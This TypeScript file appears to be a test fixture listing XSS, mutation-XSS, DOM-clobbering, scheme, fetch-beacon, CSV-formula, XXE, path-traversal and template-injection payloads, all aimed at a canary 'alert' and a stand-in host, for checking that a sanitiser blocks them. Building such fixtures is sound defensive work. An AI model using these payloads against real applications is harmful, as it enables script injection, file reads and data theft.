/**
 * Markup and strings that try to run, fetch, escape or break, written for this project after the known classes of such
 * attacks (event handlers, script schemes, foreign namespaces, mutation on re-parsing, clobbering, dangling markup, style,
 * refreshes, formulas, template and format injection). `{id}` in a class's template becomes a call that a test can see.
 */

export interface Attack {
  readonly id: string;
  readonly text: string;
}

/** What every payload calls; a window in which it was called has let something run. */
export const canary = 'alert';
/** Where every payload would fetch from; nothing may ask for it. */
export const host = 'canary.invalid';

const run = `${canary}(1)`;
const from = `https://${host}`;

const handlers: readonly string[] = [
  `<img src=x onerror=${run}>`,
  `<img src onerror="${run}" style=x:y>`,
  `<IMG """><SCRIPT>${run}</SCRIPT>">`,
  `<svg onload=${run}>`,
  `<svg/onload=${run}//`,
  `<body onload=${run}>`,
  `<body onpageshow=${run}><body onresize=${run}>`,
  `<input autofocus onfocus=${run}>`,
  `<select autofocus onfocus=${run}><option>x</select>`,
  `<textarea autofocus onfocus=${run}></textarea>`,
  `<details open ontoggle=${run}><summary>s</summary>d</details>`,
  `<video src=x onerror=${run}></video>`,
  `<video><source onerror=${run}></video>`,
  `<audio src=x onerror=${run}>`,
  `<marquee onstart=${run}>m</marquee>`,
  `<div onpointerover=${run} onclick=${run} style="position:fixed;inset:0">all of it</div>`,
  `<p onanimationstart=${run} style="animation:x 1s">a</p><style>@keyframes x{}</style>`,
  `<xss id=x tabindex=1 onfocus=${run}></xss>`,
  `<a href=x onmouseenter=${run} onauxclick=${run}>h</a>`,
  `<object data=x onerror=${run}></object><embed src=x onload=${run}>`,
  `<iframe onload=${run}></iframe>`,
  `<form onsubmit=${run}><button>b</button></form>`,
  `<b/onclick=${run}/x=">b</b>`,
  `<a"onclick=${run} b="c">x</a>`,
];

const schemes: readonly string[] = [
  'javascript:ALERT',
  'JaVaScRiPt:ALERT',
  ' \u0001javascript:ALERT',
  'java\tscript:ALERT',
  'java\nscript:ALERT',
  'java&#10;script:ALERT',
  '&#106;avascript:ALERT',
  '&#x6A&#x61vascript:ALERT',
  'javascript&colon;ALERT',
  'javascript://%0aALERT',
  'javascript:/*--></title></style></textarea>*/ALERT',
  'vbscript:ALERT',
  'livescript:ALERT',
  'data:text/html,<script>ALERT</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="ALERT"/>',
  'blob:null/ALERT',
  'filesystem:http://x/ALERT',
  'view-source:javascript:ALERT',
  'feed:javascript:ALERT',
  'file:///etc/passwd',
  'smb://canary.invalid/share',
  'ms-msdt:/id PCWDiagnostic',
  'app://almagest/../../vault.json',
  'about:blank#ALERT',
  '//canary.invalid/x',
  'https:canary.invalid',
  'http://canary.invalid\u2028ALERT',
].map((scheme) => scheme.replace('ALERT', run));

const attributes: readonly string[] = ['href', 'src', 'srcset', 'xlink:href', 'action', 'formaction', 'data', 'poster', 'background', 'cite', 'longdesc', 'ping', 'manifest', 'srcdoc'];

const linked: readonly string[] = [
  ...schemes.map((scheme) => `<p>before <a href="${scheme}">a link</a> after</p>`),
  ...attributes.flatMap((attribute) => [`<x ${attribute}="${schemes[0] ?? ''}">x</x>`, `<img ${attribute}='${from}/${attribute}'>`]),
  `<form action="${schemes[0] ?? ''}"><button formaction="${schemes[0] ?? ''}">b</button><isindex type=image src=1 onerror=${run}>`,
  `<area href="${schemes[0] ?? ''}"><map name=m><area shape=rect coords=0,0,9,9 href="${schemes[0] ?? ''}"></map>`,
  `<base href="javascript:/a/"><a href="/../">x</a><a href="#%0a${run}">y</a>`,
];

const namespaces: readonly string[] = [
  `<svg><script>${run}</script></svg>`,
  `<svg><script href="data:text/javascript,${run}"/></svg>`,
  `<svg><a xlink:href="javascript:${run}"><text y=20>x</text></a></svg>`,
  `<svg><animate xlink:href=#x attributeName=href values="javascript:${run}"/><a id=x><text>x</text></a></svg>`,
  `<svg><set attributeName=onmouseover to=${run}></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='${run}'/></svg>#x"/></svg>`,
  `<svg><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:${run}"></iframe></foreignObject></svg>`,
  `<svg><style>@import "${from}/svg.css";</style><image href="${from}/svg.png"/></svg>`,
  `<math href="javascript:${run}">m</math><math><maction actiontype="statusline#${from}" xlink:href="javascript:${run}">c</maction></math>`,
  `<math><annotation-xml encoding="text/html"><script>${run}</script></annotation-xml></math>`,
  `<svg><desc><noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<template><script>${run}</script><img src=${from}/t onerror=${run}></template>`,
  `<div><template shadowrootmode=open><img src=x onerror=${run}></template></div>`,
  `<xmp><p title="</xmp><svg/onload=${run}>">`,
  `<listing>&lt;img src=x onerror=${run}&gt;</listing><plaintext><img src=x onerror=${run}>`,
  `<title><a title="</title><img src onerror=${run}>"></title>`,
  `<textarea><a title="</textarea><img src onerror=${run}>"></textarea>`,
  `<!--><img src=x onerror=${run}>--><!--!><svg onload=${run}>--!>`,
  `<![CDATA[<img src=x onerror=${run}>]]><?xml version="1.0"?><?x <img src=x onerror=${run}>?>`,
  `<table><td background="${from}/td"><caption onclick=${run}>c</caption><style></table><img src=x onerror=${run}>`,
  `<select><style></select><img src=x onerror=${run}></style></select>`,
  `<ruby><rt><svg><title><style><a id="</title></style><img src=x onerror=${run}>">`,
];

const fetching: readonly string[] = [
  `<link rel=stylesheet href="${from}/a.css"><link rel=prefetch href="${from}/b"><link rel=preconnect href="${from}"><link rel=dns-prefetch href="//${host}">`,
  `<link rel=icon href="${from}/i.ico"><link rel=manifest href="${from}/m.json"><link rel=modulepreload href="${from}/m.js">`,
  `<style>@import url(${from}/c.css); @font-face{font-family:f;src:url(${from}/f.woff2)} body{font-family:f;background:url(${from}/d.png)}</style>`,
  `<p style="background:url('${from}/e.png');list-style:url(${from}/f.png);content:url(${from}/g.png);cursor:url(${from}/h.cur),auto">styled</p>`,
  `<p style="width:expression(${run});behavior:url(${from}/x.htc);-moz-binding:url(${from}/x.xml#x)">old styles</p>`,
  `<img src="${from}/1.png" srcset="${from}/2.png 2x, ${from}/3.png 3x" loading=eager><picture><source srcset="${from}/4.webp"><img src=x></picture>`,
  `<video poster="${from}/p.png" src="${from}/v.mp4" autoplay></video><audio src="${from}/a.mp3" autoplay></audio><track src="${from}/t.vtt">`,
  `<iframe src="${from}/frame"></iframe><iframe srcdoc="<script>${run}</script>"></iframe><frameset><frame src="${from}/f"></frameset>`,
  `<object data="${from}/o.swf"></object><embed src="${from}/e.pdf"><applet code=x codebase="${from}/">`,
  `<meta http-equiv=refresh content="0;url=${from}/refresh"><meta http-equiv=refresh content="0;javascript:${run}">`,
  `<meta http-equiv=Content-Security-Policy content="script-src * 'unsafe-inline'; report-uri ${from}/csp"><meta http-equiv=set-cookie content=a=b>`,
  `<base href="${from}/"><script src=rel.js></script><img src=rel.png>`,
  `<script src="${from}/s.js"></script><script type=module>import '${from}/m.js'</script><script type=importmap>{"imports":{"a":"${from}/a.js"}}</script>`,
  `<script type=speculationrules>{"prerender":[{"source":"list","urls":["${from}/p"]}]}</script>`,
  `<script>fetch('${from}/f'); navigator.sendBeacon('${from}/b'); new Image().src='${from}/i'; new WebSocket('wss://${host}/w')</script>`,
  `<img src='${from}/dangling?<p>Words that must not be sent</p>`,
  `<a href='${from}/ping' ping='${from}/ping2'>x</a><form action=${from}/f method=post><input name=a value=b><button autofocus>go</button></form>`,
  `<body background="${from}/bg.png"><table background="${from}/t.png"><td background="${from}/td.png">x</table>`,
];

const clobbering: readonly string[] = [
  '<form id=almagest><input name=request><input name=listen></form><a id=almagest><a id=almagest name=request href=cid:x>',
  '<img name=getElementById><img name=body><img name=cookie><form name=createElement><input name=attributes><input name=parentNode>',
  '<p id="__proto__" class="constructor" title="toString">p</p><p id=root>root</p><p id="s-introduction">s</p>',
  '<a href="https://a.example/?__proto__[x]=1" id=constructor name=prototype>x</a>',
];

/** Strings that are dangerous where they are put into another form: Markdown, YAML, JSON, CSV, XML, format strings, sort orders. */
export const strings: readonly Attack[] = [
  `"><script>${run}</script>`,
  `'"--></style></script><svg onload=${run}>`,
  `</title><img src=x onerror=${run}>`,
  `</script><script>${run}</script>`,
  `<!--<script>${run}//-->`,
  `[x](javascript:${run})`,
  `[x](<javascript:${run}> "t")`,
  `![x](${from}/md.png)`,
  `![x][r]\n\n[r]: javascript:${run}`,
  `<javascript:${run}>`,
  `[[../../vault.json|x]]`,
  `---\ntitle: "x"\n!!js/function: |\n  ${run}\n---`,
  '---\n- &a [*a]\n...',
  '"quoted": {yaml: [flow]} # not a comment\n\ttab',
  `=HYPERLINK("${from}","x")`,
  `=cmd|' /C calc'!A0`,
  `+1+1`,
  `-2+3`,
  `@SUM(1+1)`,
  `\t=1+1`,
  `\r\n=1+1`,
  `＝1+1`,
  `%0A=1+1`,
  `]]>&xxe;<![CDATA[`,
  `<!DOCTYPE x [<!ENTITY a "&b;&b;"><!ENTITY b SYSTEM "file:///etc/passwd">]>&a;`,
  `&lt;img src=x onerror=${run}&gt;&#0;&#xD800;&#x110000;&notanentity;`,
  `\${${run}} {{${run}}} <%= ${run} %> #{${run}} {% ${run} %} {0} %s %n %x $& $1 $\``,
  '{{name}} {{count}} $t(app:title) __name__ {{- name}}',
  '../../../../etc/passwd',
  '..\\..\\..\\windows\\win.ini',
  'C:\\CON\\NUL.txt:stream',
  'con',
  'nul.html',
  'file\u0000.html',
  '__proto__',
  'constructor',
  'hasOwnProperty',
  'toString',
  '\u202egnp.exe\u202c',
  '\u2066\u2067\u2068abc\u2069',
  'a\u200b\u200c\u200d\ufeffb\u00adc',
  'e\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030a'.repeat(20),
  '\ud800 lone \udfff surrogates',
  '\ufffe\uffff\ufdd0 non-characters',
  '\u0007\u001b[31mred\u001b[0m\u0008\u007f',
  'line\u2028separator\u2029paragraph',
  '👨‍👩‍👧‍👦'.repeat(50),
  'ﷺﷺﷺ ﷽﷽﷽ 𒐫𒐫𒐫 ௵௵௵',
  'W'.repeat(5000),
  'word '.repeat(2000).trim(),
  '('.repeat(1000) + 'a'.repeat(1000) + '+'.repeat(1000),
  '\\'.repeat(999),
  '*'.repeat(3000),
  '['.repeat(3000),
  '> '.repeat(1000) + 'deep',
  '`'.repeat(2000),
  `{"@context":"http://www.w3.org/ns/anno.jsonld","id":"javascript:${run}"}`,
  `@misc{x, title = {}, note = {} } @comment{ \\input{/etc/passwd} \\write18{id} #{ }`,
  '\\documentclass{}\\immediate\\write18{id}$\\href{javascript:alert(1)}{x}$',
].map((text, index) => ({ id: `string ${String(index)}`, text }));

const numbered = (kind: string, texts: readonly string[]): Attack[] => texts.map((text, index) => ({ id: `${kind} ${String(index)}`, text }));

/** Pages, each as a file of its own would hold it. */
export const pages: readonly Attack[] = [
  ...numbered('handler', handlers),
  ...numbered('link', linked),
  ...numbered('namespace', namespaces),
  ...numbered('fetch', fetching),
  ...numbered('clobber', clobbering),
  ...numbered('nested', [
    `${'<div>'.repeat(5000)}deep${'</div>'.repeat(5000)}`,
    `${'<b><i>'.repeat(2000)}deep`,
    `${'<ul><li>'.repeat(1000)}deep`,
    `${'<table><tr><td>'.repeat(300)}deep`,
    `<p ${'a=b '.repeat(20_000)}>many attributes</p>`,
    `<a href="https://example.org/${'x'.repeat(100_000)}">a long address</a>`,
  ]),
];
